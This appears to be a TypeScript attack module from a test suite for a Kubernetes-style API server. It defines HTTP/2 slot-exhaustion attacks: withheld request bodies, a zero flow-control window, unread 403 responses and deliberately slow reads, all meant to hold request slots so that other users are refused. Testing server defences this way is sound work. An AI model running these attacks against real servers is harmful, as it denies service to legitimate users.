/**
 * Attacks on request slots: a few users hold as many slots as they can with requests that need no
 * work, so that everybody else waits and is refused.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import {
  FLAG,
  FRAME,
  frame,
  headerBlock,
  RawHttp2,
  requestFields,
} from '../../support/raw-http2.ts'
import { type Attack, FROM_ADDRESS, fleet, LIST, type Sender, tokensOf } from './attack.ts'

const SELF_REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
/** A collection delete, which is wide, and would delete nothing. */
const DELETE = `${LIST}?dryRun=All&fieldSelector=metadata.name%3Dnothing`
const OTHER_NAMESPACE = LIST.replace('/a/', '/zz/')
/** SETTINGS_INITIAL_WINDOW_SIZE of 0: response bodies cannot be sent. */
const NO_WINDOW = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))
/** How much a slow reader reads at a time, and how often: less than `stalledTimeoutMs` apart. */
const TAKEN_BYTES = 70_000
const TAKEN_EVERY_MS = 4000
const CONNECTION_WINDOW = 100_000_000
const CONNECTIONS_PER_USER = 4
const PAUSE_MS = 20

interface Shape {
  readonly method: string
  readonly path: string
  readonly perConnection: number
  /** Whether a body is announced, which is never sent. */
  readonly withholdsBody?: boolean
  readonly reads: 'nothing' | 'slowly'
}

export const SLOT_ATTACKS: readonly Attack[] = [
  slots('slots: withheld bodies of collection deletes', 'editor', 2, {
    method: 'DELETE',
    path: DELETE,
    perConnection: 10,
    withholdsBody: true,
    reads: 'nothing',
  }),
  slots('slots: withheld bodies of self-reviews', 'no rights', 6, {
    method: 'POST',
    path: SELF_REVIEWS,
    perConnection: 80,
    withholdsBody: true,
    reads: 'nothing',
  }),
  slots('slots: unread 403s of collection deletes', 'no rights', 3, {
    method: 'DELETE',
    path: OTHER_NAMESPACE,
    perConnection: 10,
    reads: 'nothing',
  }),
  slots('slots: unread 403s of lists', 'no rights', 3, {
    method: 'GET',
    path: OTHER_NAMESPACE,
    perConnection: 20,
    reads: 'nothing',
  }),
  slots('slots: lists read slowly', 'reader', 3, {
    method: 'GET',
    path: LIST,
    perConnection: 16,
    reads: 'slowly',
  }),
]

function slots(name: string, sender: Sender, users: number, shape: Shape): Attack {
  return {
    name,
    sender,
    run: ({ port, scaled }) => {
      const tokens = tokensOf(sender, users)
      const size = scaled(CONNECTIONS_PER_USER * users)
      return fleet({ size, group: users, pauseMs: PAUSE_MS }, async (index) => {
        const client = await RawHttp2.open(port, FROM_ADDRESS)
        await client.settled()
        if (shape.reads === 'nothing') client.send(NO_WINDOW)
        client.send(...requests(shape, tokens[index % users] ?? ''))
        if (shape.reads === 'slowly') void readSlowly(client, shape.perConnection)
        return {
          close: () => client.socket.destroy(),
          get isClosed() {
            return client.isClosed
          },
        }
      })
    },
  }
}

function requests(shape: Shape, token: string): readonly Buffer[] {
  const { method, path, perConnection, withholdsBody = false } = shape
  const block = headerBlock({
    ...requestFields(method, path),
    authorization: `Bearer ${token}`,
    ...(withholdsBody && { 'content-type': 'application/json', 'content-length': '50' }),
  })
  const flags = FLAG.endHeaders | (withholdsBody ? 0 : FLAG.endStream)
  return Array.from({ length: perConnection }, (_, n) =>
    frame(FRAME.headers, flags, 1 + 2 * n, block),
  )
}

async function readSlowly(client: RawHttp2, streams: number): Promise<void> {
  client.send(windowUpdate(0, CONNECTION_WINDOW))
  while (!client.isClosed) {
    await sleep(TAKEN_EVERY_MS)
    for (let n = 0; n < streams; n++) client.send(windowUpdate(1 + 2 * n, TAKEN_BYTES))
  }
}

function windowUpdate(stream: number, bytes: number): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(bytes)
  return frame(FRAME.windowUpdate, 0, stream, payload)
}
